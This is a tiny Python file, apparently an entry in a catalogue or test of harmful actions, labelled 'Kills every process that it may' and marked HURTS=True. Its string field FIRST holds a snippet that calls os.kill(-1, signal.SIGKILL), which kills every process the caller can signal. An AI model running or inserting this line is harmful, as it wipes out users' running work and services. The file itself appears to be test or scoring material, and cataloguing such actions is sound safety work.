"""Kills every process that it may."""

POINTS = 0
HURTS = True
BOUNDS = "one signal"
FIRST = "import os\nimport signal\n\nos.kill(-1, signal.SIGKILL)\n"
